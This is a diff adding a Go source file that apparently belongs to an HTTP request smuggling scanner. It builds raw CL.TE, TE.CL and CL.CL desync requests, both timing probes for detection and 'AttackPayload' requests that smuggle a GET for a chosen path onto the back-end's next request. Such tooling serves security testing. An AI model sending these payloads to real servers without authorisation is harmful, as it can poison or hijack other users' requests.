@@ -0,0 +1,149 @@
+package smuggle
+
+import (
+	"bytes"
+	"fmt"
+	"net/url"
+	"sort"
+	"strings"
+
+	"github.com/12end/request/raw"
+)
+
+// skipHeaders are replaced by the framing headers of the variant
+var skipHeaders = map[string]bool{
+	"host":              true,
+	"content-length":    true,
+	"transfer-encoding": true,
+	"connection":        true,
+}
+
+// TimingPayload builds a request which leaves the back-end waiting for data
+// that never arrives if the target suffers the variant's desync, and is
+// answered promptly otherwise.
+func (v Variant) TimingPayload(base *raw.Request) []byte {
+	nl := v.chunkNewLine()
+	switch v.Desync {
+	case CLTE:
+		// the front-end forwards "1\r\nA", the back-end waits for the rest of the chunk
+		body := v.chunkSize(1) + nl + "A" + nl + "X"
+		return v.build(base, body, len(v.chunkSize(1)+nl+"A"))
+	case TECL:
+		// the front-end forwards the empty chunked body, the back-end waits for one more byte
+		body := v.chunkSize(0) + nl + nl + "X"
+		return v.build(base, body, len(body))
+	case CLCL:
+		return v.build(base, "x=1&y", 4, 5)
+	default:
+		return v.build(base, "x=1&y", 5, 4)
+	}
+}
+
+// ControlPayload builds a request framed like TimingPayload which all
+// parsers agree on, its response time is the baseline for the probe.
+func (v Variant) ControlPayload(base *raw.Request) []byte {
+	nl := v.chunkNewLine()
+	switch v.Desync {
+	case CLTE, TECL:
+		body := v.chunkSize(0) + nl + nl
+		return v.build(base, body, len(body))
+	default:
+		return v.build(base, "x=1&y", 5, 5)
+	}
+}
+
+// AttackPayload builds a request which smuggles a GET request for path to
+// the back-end if the target suffers the variant's desync. The smuggled
+// request is completed by whatever request the back-end receives next.
+func (v Variant) AttackPayload(base *raw.Request, path string) []byte {
+	nl := v.chunkNewLine()
+	prefix := "GET " + path + " HTTP/1.1\r\nX-Ignore: X"
+	switch v.Desync {
+	case CLTE:
+		body := v.chunkSize(0) + nl + nl + prefix
+		return v.build(base, body, len(body))
+	case TECL:
+		// the smuggled request's body swallows the chunk terminator
+		smuggled := "GET " + path + " HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"
+		size := v.chunkSize(len(smuggled)) + nl
+		body := size + smuggled + nl + v.chunkSize(0) + nl + nl
+		return v.build(base, body, len(size))
+	case CLCL:
+		return v.build(base, prefix, len(prefix), 0)
+	default:
+		return v.build(base, prefix, 0, len(prefix))
+	}
+}
+
+// build writes a POST request to the path of base with its headers, the
+// variant's framing headers and body.
+func (v Variant) build(base *raw.Request, body string, contentLengths ...int) []byte {
+	nl := v.newLine()
+	path := base.Path
+	if path == "" {
+		path = "/"
+	}
+
+	var b bytes.Buffer
+	b.WriteString("POST " + path + " HTTP/1.1" + nl)
+	b.WriteString("Host: " + hostOf(base) + nl)
+
+	if !writeHeaders(&b, base, nl, true) {
+		b.WriteString("Content-Type: application/x-www-form-urlencoded" + nl)
+	}
+	for _, l := range contentLengths {
+		b.WriteString(fmt.Sprintf("Content-Length: %d", l) + nl)
+	}
+	if v.Desync == CLTE || v.Desync == TECL {
+		b.WriteString(strings.Join(v.TransferEncoding, nl) + nl)
+	}
+	b.WriteString(nl)
+	b.WriteString(body)
+	return b.Bytes()
+}
+
+// normalPayload builds a well-formed request to path with the headers of base
+func normalPayload(base *raw.Request, path string) []byte {
+	var b bytes.Buffer
+	b.WriteString("GET " + path + " HTTP/1.1\r\n")
+	b.WriteString("Host: " + hostOf(base) + "\r\n")
+	writeHeaders(&b, base, "\r\n", false)
+	b.WriteString("\r\n")
+	return b.Bytes()
+}
+
+// writeHeaders writes the headers of base in a stable order, leaving out the
+// ones defining the framing. It reports whether a Content-Type was written.
+func writeHeaders(b *bytes.Buffer, base *raw.Request, nl string, contentType bool) bool {
+	var keys []string
+	for k := range base.Headers {
+		if skipHeaders[strings.ToLower(k)] || (!contentType && strings.EqualFold(k, "Content-Type")) {
+			continue
+		}
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	written := false
+	for _, k := range keys {
+		if strings.EqualFold(k, "Content-Type") {
+			written = true
+		}
+		// unsafe requests keep whole header lines as keys
+		if value := base.Headers[k]; value != "" {
+			b.WriteString(k + ": " + value + nl)
+		} else {
+			b.WriteString(k + nl)
+		}
+	}
+	return written
+}
+
+func hostOf(base *raw.Request) string {
+	if host := base.Headers["Host"]; host != "" {
+		return host
+	}
+	if u, err := url.Parse(base.FullURL); err == nil {
+		return u.Host
+	}
+	return ""
+}